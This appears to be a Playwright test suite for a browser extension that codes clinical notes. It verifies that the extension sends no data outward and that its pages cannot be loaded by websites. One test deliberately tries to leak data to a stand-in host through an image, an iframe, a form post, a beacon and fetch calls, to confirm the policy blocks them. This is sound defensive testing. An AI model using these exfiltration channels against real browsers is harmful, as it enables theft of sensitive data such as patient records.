import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { serve } from '../../sample/serve.ts';
import { type Browser, extensionPage, launch } from './browser.ts';
import { read, samples } from './chart.ts';
import { listen, type Sink } from './sink.ts';
import { eventually, stored } from './stored.ts';

let browser: Browser;
let chart: Awaited<ReturnType<typeof serve>>;
let sink: Sink;
let panel: Page;
const asked: Request[] = [];
beforeAll(async () => {
	[chart, sink] = await Promise.all([serve(), listen()]);
	browser = await launch({ sink: sink.port });
	browser.context.on('request', (request) => asked.push(request));
	panel = await browser.panel();
});
afterAll(async () => {
	await browser?.close();
	chart?.close();
	sink?.close();
});

const coded = (count: number) => eventually(async () => (await stored(panel, 'results')).length >= count, 30_000);

test('coding notes sends nothing anywhere', async () => {
	const three = samples.slice(0, 3);
	for (const { id } of three) await read(browser, panel, `${chart.url}/encounter/${id}`);
	await coded(three.length);
	const outward = asked.filter((request) => {
		const fromPage = request.frame().url().startsWith(chart.url);
		return !request.url().startsWith(extensionPage('')) && !fromPage;
	});
	expect(outward.map((request) => request.url())).toEqual([]);
	const ofPage = asked.map((request) => new URL(request.url())).filter(({ origin }) => origin === chart.url);
	expect(
		ofPage.every(
			({ pathname, search }) => /^\/(encounter\/[\w-]+|notes\/[\w-]+\.txt|[\w.-]*)$/.test(pathname) && !search,
		),
	).toBe(true);
	expect(sink.calls).toEqual([]);
});

test('the policy lets no byte out by fetch, image, form, beacon or frame, and the listener does listen', async () => {
	const tried = await panel.evaluate(async () => {
		const url = 'http://leak.example.test/x';
		const image = new Image();
		image.src = url;
		const frame = document.createElement('iframe');
		frame.src = url;
		const form = document.createElement('form');
		form.action = url;
		form.method = 'post';
		document.body.append(image, frame, form);
		form.submit();
		navigator.sendBeacon(url, 'x');
		const fetched = await fetch(url).then(
			() => 'fetched',
			() => 'blocked',
		);
		return fetched;
	});
	expect(tried).toBe('blocked');
	const background = await browser.background();
	const fromBackground = await background.evaluate(() =>
		fetch('http://leak.example.test/y').then(
			() => 'fetched',
			() => 'blocked',
		),
	);
	expect(fromBackground).toBe('blocked');
	await new Promise((resolve) => setTimeout(resolve, 500));
	// Chromium opens a bare connection for a navigation before the policy stops it; nothing is sent on it.
	expect(sink.heard).toEqual([]);
	const control = await browser.context.newPage();
	await control.goto('http://control.example.test/', { timeout: 1_500 }).catch(() => {});
	expect(sink.heard.length).toBeGreaterThan(0);
});

test('nothing of the extension can be loaded by a page', async () => {
	const { tab } = await read(browser, panel, `${chart.url}/encounter/${samples[0]?.id}`);
	const loads = await tab.evaluate(
		(url) =>
			fetch(url).then(
				() => true,
				() => false,
			),
		extensionPage('icd/manifest.json'),
	);
	expect(loads).toBe(false);
});
